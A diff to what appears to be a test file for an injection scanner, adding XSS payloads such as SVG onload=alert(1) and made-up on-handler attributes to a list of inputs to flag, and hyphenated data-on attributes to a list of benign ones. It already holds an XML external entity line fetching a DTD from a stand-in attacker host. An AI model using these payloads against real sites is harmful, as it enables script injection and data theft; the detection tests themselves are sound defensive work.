@@ -59,7 +59,12 @@ CASES: tuple[Case, ...] = (
          # tags a sanitizer strips, placed inside a handler name or a call
          "\\\"autof<x>ocus o<x>nfocus=alert<x>(1)//", "on<b>mouse</b>over=x", "confirm<i>(1)",
          # an XML entity declaration, and a comment closer as a whole value
-         '<!ENTITY % ext SYSTEM "http://evil.example/x.dtd">', "foo!ENTITY bar PUBLIC", "-->"),
+         '<!ENTITY % ext SYSTEM "http://evil.example/x.dtd">', "foo!ENTITY bar PUBLIC", "-->",
+         # a bare <svg> start tag, and an SVG document's tag that carries a handler
+         "<svg>", "<SVG/x>", "<svg", '<svg width="1"><script>x</script>', "<svg xmlx=1 xmln=2>",
+         '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">',
+         # any element with any on... attribute assigned a value (scanners probe made-up names)
+         "<test oNxX=yYy>", "<test/oNcoNTeXtMenU=x>", "<x/onfoo=1>", "<d3v onpointerenter=x>"),
         ("Export: dataformatas html is an old IE attribute",
          "Use `<b>` for bold, e.g. a < b", "data:image/png;base64,iVBORw0KGgo=", "javascript is fun",
          "the document (signed) cookie policy", "top [10] picks", "confirm (yes/no)",
@@ -82,7 +87,9 @@ CASES: tuple[Case, ...] = (
          "parent.location is read by the frame", "location.href returns the page URL", "queue.put(alert)",
          "cfg['alert'] = True", "levels: ['alert', 'info']", "import('./lazy.js')",
          "Step 1 --> Step 2", "a <-- b --> c", "on <b>line</b> shop", "ENTITY relationships (SYSTEM design)",
-         "notify_on=alert", "onClose=prompt", 'Don\'t forget: "onboarding=done" is set.', "toggle 'online=true' in settings"),
+         "notify_on=alert", "onClose=prompt", 'Don\'t forget: "onboarding=done" is set.', "toggle 'online=true' in settings",
+         # "on" after a hyphen is not a handler name
+         '<div data-online="1" class="x">', "<my-el data-onboarding=done>"),
     ),
     Case(
         "PathTraversal",
